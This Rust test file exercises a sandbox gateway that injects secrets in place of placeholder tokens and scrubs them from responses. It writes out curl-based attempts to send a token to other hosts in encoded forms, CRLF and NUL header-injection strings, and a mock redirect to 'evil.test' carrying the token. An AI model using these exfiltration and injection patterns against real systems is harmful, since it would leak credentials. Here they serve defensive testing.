//! Secrets, with real clients inside and hosts that give away what they get.

use std::io::{Read as _, Write as _};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use ringfence_model::gate::{BoundSecret, Happened, Mock, Setup, Traffic};
use ringfence_model::host::{Host, HostPattern};
use ringfence_model::policy::network::{PathPattern, Reason};

use crate::kit;
use crate::site;
use kit::{World, rules, setup};
use site::{Looking, Outside, Saw, Site, answer};

const FAKE: &str = "ghp_FakeFakeFakeFake0123456789";
const REAL: &str = "ghp_RealRealRealReal9876543210";

fn bound(host: &str, header: &str) -> BoundSecret {
    BoundSecret {
        name: "TOKEN".to_owned(),
        placeholder: FAKE.to_owned(),
        hosts: vec![HostPattern::parse(host).expect("a host")],
        methods: Vec::new(),
        path: None,
        header: header.to_owned(),
    }
}

/// Hosts `api.test`, with a secret, and `b.test`, without: the same program.
fn world(answer: fn(&Saw) -> Vec<u8>, secret: BoundSecret) -> (Setup, Site, Outside) {
    let outside = Outside::new();
    let world = World::new(&[("*.test", &["127.0.0.1"])]);
    let config = outside.config(&["api.test", "b.test"], &["http/1.1"]);
    let site = Site::secure(config, answer);
    let lines = ["api.test", "b.test"].map(|host| format!("{host}:{}/**", site.port));
    let mut setup = setup(rules(&[&lines[0], &lines[1]]), &world);
    setup.roots = Some(outside.path().to_owned());
    setup.secrets = vec![secret];
    (setup, site, outside)
}

/// What was taken out of the answer to a request for this path.
fn scrubbed(inside: &Looking, path: &str) -> (String, String) {
    let at = |own: &Traffic| {
        own.path
            .as_ref()
            .is_some_and(|own| own.0 == path.as_bytes())
    };
    let seen = inside
        .gate
        .seen(|own| at(own) && matches!(own.result, Happened::Scrubbed { .. }));
    match seen.result {
        Happened::Scrubbed { secret, form } => (secret, form),
        _ => unreachable!("it was matched"),
    }
}

/// Nothing that a gate says has the value in it.
fn assert_silent(all: &[Traffic]) {
    let text = serde_json::to_string(all).expect("data").to_lowercase();
    assert!(!text.contains(&REAL.to_lowercase()), "{text}");
}

#[test]
fn a_token_is_used_and_never_held() {
    fn echo(saw: &Saw) -> Vec<u8> {
        let token = saw.field("authorization").unwrap_or("none");
        answer("200 OK", "", format!("you are {token}").as_bytes())
    }
    let (setup, site, _outside) = world(echo, bound("api.test", "Authorization: Bearer {}"));
    let Some(inside) = Looking::start(&setup, &[REAL]) else {
        return;
    };
    let token = format!("Authorization: Bearer {FAKE}");
    let url = format!("https://api.test:{}/user", site.port);
    for version in ["--http1.1", "--http2"] {
        // sec-003
        let (code, text) = inside.curl(&[version, "-H", &token, &url]);
        assert_eq!((code, text), (0, format!("you are Bearer {FAKE}")));
        let last = site.saw().pop().expect("it came");
        assert_eq!(
            last.field("authorization"),
            Some(&*format!("Bearer {REAL}"))
        );
        assert_eq!(last.field("accept-encoding"), Some("identity"));
        assert_eq!(
            scrubbed(&inside, "/user"),
            ("TOKEN".to_owned(), "plain".to_owned())
        );
        let seen = inside.gate.seen(
            |own| matches!(&own.result, Happened::Allowed { secrets, .. } if !secrets.is_empty()),
        );
        let Happened::Allowed { secrets, .. } = seen.result else {
            unreachable!("it was matched");
        };
        assert_eq!(secrets, ["TOKEN"]);
        // Who does not ask has nothing.
        let (_, text) = inside.curl(&[version, &url]);
        assert_eq!(text, "you are none");
        // net-040, net-051: nobody else's credential is used there.
        let own = [
            "-H",
            "Authorization: Bearer mine",
            "-b",
            "s=1",
            "-H",
            "X-Api-Key: k",
        ];
        let (_, text) = inside.curl(&[&[version, url.as_str()], &own[..]].concat());
        assert_eq!(text, "you are none");
        let last = site.saw().pop().expect("it came");
        assert_eq!(
            (last.field("cookie"), last.field("x-api-key")),
            (None, None)
        );
        for _ in 0..3 {
            inside
                .gate
                .seen(|own| matches!(own.result, Happened::Stripped { .. }));
        }
    }
    assert_silent(&inside.gate.end());
}

#[test]
fn a_placeholder_elsewhere_is_refused() {
    fn plain(_: &Saw) -> Vec<u8> {
        answer("200 OK", "", b"took it")
    }
    let mut secret = bound("api.test", "Authorization: Bearer {}");
    secret.methods = vec!["GET".to_owned(), "POST".to_owned()];
    secret.path = Some(PathPattern::parse("/repos/**").expect("a path"));
    let (setup, site, _outside) = world(plain, secret);
    let Some(inside) = Looking::start(&setup, &[REAL]) else {
        return;
    };
    let port = site.port;
    let token = format!("Authorization: Bearer {FAKE}");
    let api = |path: &str| format!("https://api.test:{port}{path}");
    let other = |path: &str| format!("https://b.test:{port}{path}");
    let coded = STANDARD.encode(format!("x:{FAKE}"));
    let hex: String = FAKE.bytes().map(|byte| format!("{byte:02x}")).collect();
    let mut file = tempfile::NamedTempFile::new().expect("a file");
    file.write_all(&vec![b'x'; 300_000]).expect("room");
    file.write_all(FAKE.as_bytes()).expect("room");
    file.write_all(&vec![b'x'; 300_000]).expect("room");
    let file = file.path().to_str().expect("a path");
    let mut refused = 0;
    for version in ["--http1.1", "--http2"] {
        for arguments in [
            // sec-002: another host.
            vec!["-H", &token, &other("/repos/x")],
            vec!["-u", &format!("x:{FAKE}"), &other("/")],
            vec![&other(&format!("/?t={FAKE}"))],
            vec![&other(&format!("/{FAKE}"))],
            vec!["-d", &format!("t={FAKE}"), &other("/")],
            vec!["-d", &coded, &other("/")],
            vec!["-d", &hex, &other("/")],
            vec!["-T", file, &other("/")],
            vec!["-H", &format!("X-Mine: {FAKE}"), &other("/")],
            // sec-016: another method or path of the same host.
            vec!["-X", "DELETE", "-H", &token, &api("/repos/x")],
            vec!["-H", &token, &api("/gists")],
            vec!["-H", &format!("X-Mine: {FAKE}"), &api("/repos/x")],
        ] {
            let (code, text) = inside.curl(&[&[version], &arguments[..]].concat());
            assert!(
                code == 0 && text.contains("\"reason\":\"secret\""),
                "{arguments:?}: {code} {text}"
            );
            refused += 1;
        }
    }
    // sec-010: nothing can be put behind the place of the placeholder.
    let host = format!("Host: api.test:{port}");
    for fields in [
        format!("{token}\rX: y"),
        format!("{token}\nX: y"),
        format!("{token}\0"),
    ] {
        let text = inside.raw(
            "api.test",
            port,
            format!("GET /repos/x HTTP/1.1\r\n{host}\r\n{fields}\r\n\r\n"),
        );
        assert!(text.starts_with("HTTP/1.1 400 "), "{text}");
    }
    // sec-015: exactly it, or nothing.
    let part = format!("Authorization: Bearer {}", &FAKE[..FAKE.len() - 1]);
    let (_, text) = inside.curl(&["-H", &part, &api("/repos/x")]);
    assert_eq!(text, "took it");
    for saw in site.saw() {
        assert_eq!(saw.field("authorization"), None, "{saw:?}");
        assert!(!format!("{saw:?}").contains(FAKE));
    }
    let all = inside.gate.end();
    let denied = |own: &&Traffic| {
        matches!(
            own.result,
            Happened::Denied {
                reason: Reason::Secret,
                ..
            }
        )
    };
    assert_eq!(
        all.iter().filter(denied).map(|own| own.times).sum::<u64>(),
        refused
    );
    assert_silent(&all);
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut own = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    own.write_all(bytes).expect("memory");
    own.finish().expect("memory")
}

fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut own = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    own.write_all(bytes).expect("memory");
    own.finish().expect("memory")
}

fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut own = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    own.write_all(bytes).expect("memory");
    own.finish().expect("memory")
}

/// A host that gives away what it got, in the way that the path says.
fn reflect(saw: &Saw) -> Vec<u8> {
    let token = saw.field("authorization").unwrap_or_default();
    let token = token.strip_prefix("Bearer ").unwrap_or(token);
    let hex: String = token.bytes().map(|byte| format!("{byte:02x}")).collect();
    let percent: String = token.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let text = |body: &str| answer("200 OK", "", body.as_bytes());
    let coded =
        |name: &str, body: &[u8]| answer("200 OK", &format!("Content-Encoding: {name}\r\n"), body);
    match saw.path() {
        "/base64" => text(&STANDARD.encode(format!("user:{token}"))),
        "/hex" => text(&hex),
        "/percent" => text(&percent),
        "/json" => text(&serde_json::json!({ "token": token }).to_string()),
        // sec-005
        "/header" => answer(
            "200 OK",
            &format!("X-Token: {token}\r\nSet-Cookie: t={token}\r\n"),
            b"",
        ),
        "/location" => answer(
            "302 Found",
            &format!("Location: https://evil.test/?t={token}\r\n"),
            b"",
        ),
        "/status" => answer(&format!("200 {token}"), "", b""),
        "/trailer" => {
            let mut bytes = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n".to_vec();
            bytes.extend(format!("X-Token: {token}\r\n\r\n").bytes());
            bytes
        }
        // Cut in the middle, chunk by chunk.
        "/chunks" => {
            let mut bytes = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n".to_vec();
            for byte in token.bytes() {
                bytes.extend(format!("1\r\n{}\r\n", char::from(byte)).bytes());
            }
            bytes.extend(b"0\r\n\r\n");
            bytes
        }
        // sec-006
        "/gzip" => coded("gzip", &gzip(token.as_bytes())),
        "/deflate" => coded("deflate", &deflate(token.as_bytes())),
        "/zlib" => coded("deflate", &zlib(token.as_bytes())),
        "/named" => coded(token, b"x"),
        "/br" => coded("br", token.as_bytes()),
        "/twice" => coded("gzip, gzip", &gzip(&gzip(token.as_bytes()))),
        _ => text("nothing"),
    }
}

#[test]
fn what_comes_back_is_searched_in_all_its_forms() {
    let (setup, site, _outside) = world(reflect, bound("api.test", "Authorization: Bearer {}"));
    let Some(inside) = Looking::start(&setup, &[REAL]) else {
        return;
    };
    let token = format!("Authorization: Bearer {FAKE}");
    let hex: String = REAL.bytes().map(|byte| format!("{byte:02x}")).collect();
    for version in ["--http1.1", "--http2"] {
        for (path, form) in [
            ("base64", "base64"),
            ("hex", "hex"),
            ("percent", "percent"),
            ("json", "plain"),
            ("header", "plain"),
            ("location", "plain"),
            ("chunks", "plain"),
            ("gzip", "plain"),
            ("deflate", "plain"),
            ("zlib", "plain"),
        ] {
            let url = format!("https://api.test:{}/{path}", site.port);
            let (code, text) = inside.curl(&[version, "-i", "-H", &token, &url]);
            assert_eq!(code, 0, "{path}");
            assert_eq!(
                scrubbed(&inside, &format!("/{path}")),
                ("TOKEN".to_owned(), form.to_owned()),
                "{path}"
            );
            let coded = STANDARD.encode(format!("user:{REAL}"));
            for form in [REAL, &hex, &coded[8..32], "%67%68%70%5F%52"] {
                assert!(!text.contains(form), "{path}: {text}");
            }
            if form == "plain" {
                assert!(text.contains(FAKE), "{path}: {text}");
            }
        }
        for path in ["status", "trailer"] {
            let url = format!("https://api.test:{}/{path}", site.port);
            let (code, text) = inside.curl(&[version, "-i", "-H", &token, &url]);
            assert!(code == 0 && !text.contains(REAL), "{path}: {text}");
        }
        // What cannot be read does not come through.
        for path in ["br", "twice", "named"] {
            let url = format!("https://api.test:{}/{path}", site.port);
            let (_, text) = inside.curl(&[version, "-w", "%{http_code}", "-H", &token, &url]);
            assert!(
                text.ends_with("502") && !text.to_lowercase().contains(&REAL.to_lowercase()),
                "{path}: {text}"
            );
        }
    }
    assert_silent(&inside.gate.end());
}

#[test]
fn a_secret_is_sent_only_to_who_proved_to_be_the_host() {
    let outside = Outside::new();
    let world = World::new(&[("*.test", &["127.0.0.1"])]);
    let stranger = Site::secure(Outside::new().config(&["api.test"], &[]), reflect);
    let clear = Site::plain(reflect);
    let double = Site::plain(reflect);
    let lines = [stranger.port, clear.port].map(|port| format!("api.test:{port}"));
    let mut setup = setup(rules(&[&lines[0], &lines[1], "pay.test"]), &world);
    setup.roots = Some(outside.path().to_owned());
    setup.secrets = vec![bound("*.test", "Authorization: Bearer {}")];
    setup.mocks = vec![Mock {
        host: Host::parse("pay.test").expect("a host"),
        to: ([127, 0, 0, 1], double.port).into(),
    }];
    let Some(inside) = Looking::start(&setup, &[REAL]) else {
        return;
    };
    let token = format!("Authorization: Bearer {FAKE}");
    let (_, text) = inside.curl(&[
        "-H",
        &token,
        &format!("https://api.test:{}/", stranger.port),
    ]);
    assert!(text.contains("certificate"), "{text}");
    let (_, text) = inside.curl(&["-H", &token, &format!("http://api.test:{}/", clear.port)]);
    assert!(text.contains("\"reason\":\"secret\""), "{text}");
    assert!(stranger.saw().is_empty() && clear.saw().is_empty());
    // A double that the policy names has it, as the host would.
    let (_, text) = inside.curl(&["-H", &token, "https://pay.test/hex"]);
    assert!(!text.is_empty());
    let last = double.saw().pop().expect("it came");
    assert_eq!(
        last.field("authorization"),
        Some(&*format!("Bearer {REAL}"))
    );
    assert_silent(&inside.gate.end());
}

#[test]
fn a_web_socket_that_gives_a_secret_away_ends() {
    let outside = Outside::new();
    let world = World::new(&[("*.test", &["127.0.0.1"])]);
    let config = outside.config(&["api.test"], &[]);
    let port = kit::server(move |stream| {
        let connection = rustls::ServerConnection::new(config.clone()).expect("a connection");
        let mut stream = rustls::StreamOwned::new(connection, stream);
        let mut head = Vec::new();
        let mut byte = [0];
        while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).is_ok_and(|length| length == 1)
        {
            head.push(byte[0]);
        }
        let head = String::from_utf8_lossy(&head).into_owned();
        assert!(
            head.contains(REAL) && !head.to_lowercase().contains("extensions"),
            "{head}"
        );
        let extension = if head.starts_with("GET /coded ") {
            "Sec-WebSocket-Extensions: permessage-deflate\r\n"
        } else {
            ""
        };
        let agreed = "HTTP/1.1 101 Yes\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n";
        stream
            .write_all(format!("{agreed}{extension}\r\n").as_bytes())
            .ok();
        stream.write_all(b"\x81\x05hello").ok();
        // A value in two frames.
        stream
            .write_all(format!("\x01\x09{}", &REAL[..9]).as_bytes())
            .ok();
        stream.flush().ok();
        stream.write_all(b"\x80\x1e").ok();
        stream
            .write_all(format!("{} and more", &REAL[9..]).as_bytes())
            .ok();
        while stream.read(&mut byte).is_ok_and(|length| length > 0) {}
    });
    let mut setup = setup(rules(&[&format!("api.test:{port}")]), &world);
    setup.roots = Some(outside.path().to_owned());
    setup.secrets = vec![bound("api.test", "Authorization: Bearer {}")];
    let Some(inside) = Looking::start(&setup, &[REAL]) else {
        return;
    };
    let ask = format!(
        "GET /ws HTTP/1.1\r\nHost: api.test:{port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
        Sec-WebSocket-Key: k\r\nSec-WebSocket-Extensions: permessage-deflate\r\nAuthorization: Bearer {FAKE}\r\n\r\n"
    );
    // An extension that nobody asked for would hide it.
    let text = inside.raw("api.test", port, ask.replace("/ws", "/coded"));
    assert!(text.starts_with("HTTP/1.1 502 "), "{text}");
    assert!(!text.contains("hello"), "{text}");
    let text = inside.raw("api.test", port, ask);
    assert!(text.starts_with("HTTP/1.1 101 "), "{text}");
    assert!(
        !text.contains(&REAL[..4]) && !text.contains("and more"),
        "{text}"
    );
    scrubbed(&inside, "/ws");
}

#[test]
fn git_uses_a_token_that_it_does_not_have() {
    // sec-017: a bare repository behind a host that asks for a name and a password.
    let folder = tempfile::tempdir().expect("a folder");
    let git = |arguments: &[&str]| {
        let output = std::process::Command::new("git")
            .args(arguments)
            .current_dir(folder.path())
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .output();
        output.is_ok_and(|output| output.status.success())
    };
    let made = git(&["init", "-q", "-b", "main", "work"])
        && git(&[
            "-C",
            "work",
            "-c",
            "user.name=a",
            "-c",
            "user.email=a@a.test",
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "one",
        ])
        && git(&["clone", "-q", "--bare", "work", "repo.git"])
        && git(&["-C", "repo.git", "update-server-info"]);
    if !made {
        println!("SKIPPED a clone with a token: git is not installed");
        return;
    }
    let outside = Outside::new();
    let world = World::new(&[("*.test", &["127.0.0.1"])]);
    let root = folder.path().to_owned();
    let real = format!("Basic {}", STANDARD.encode(format!("git:{REAL}")));
    let site = Site::secure(outside.config(&["git.test"], &["http/1.1"]), move |saw| {
        if saw.field("authorization") != Some(&real) {
            return answer(
                "401 Unauthorized",
                "WWW-Authenticate: Basic realm=\"git\"\r\n",
                b"",
            );
        }
        let path = saw.path().split('?').next().unwrap_or_default();
        match std::fs::read(root.join(path.trim_start_matches('/'))) {
            Ok(body) => answer(
                "200 OK",
                "Content-Type: application/octet-stream\r\n",
                &body,
            ),
            Err(_) => answer("404 Not Found", "", b""),
        }
    });
    let port = site.port;
    let mut setup = setup(
        rules(&[&format!("GET git.test:{port}/repo.git/**")]),
        &world,
    );
    setup.roots = Some(outside.path().to_owned());
    setup.secrets = vec![bound("git.test", "Authorization: Basic {}")];
    let Some(inside) = Looking::start(&setup, &[REAL]) else {
        return;
    };
    let authority = format!("http.sslCAInfo={}", inside.authority().display());
    let url = format!("https://git:{FAKE}@git.test:{port}/repo.git");
    let to = folder.path().join("clone");
    let to = to.to_str().expect("a path");
    let output = inside
        .gate
        .run("git", &["-c", &authority, "clone", "-q", &url, to]);
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{said}");
    assert!(folder.path().join("clone/.git/refs/heads/main").exists());
    // What was not granted is refused.
    let output = inside.gate.run(
        "git",
        &["-c", &authority, "-C", to, "push", &url, "main:other"],
    );
    assert!(!output.status.success());
    let used = |own: &Traffic| matches!(&own.result, Happened::Allowed { secrets, .. } if secrets == &["TOKEN"]);
    let all = inside.gate.end();
    assert!(all.iter().any(used), "{all:?}");
    assert_silent(&all);
}
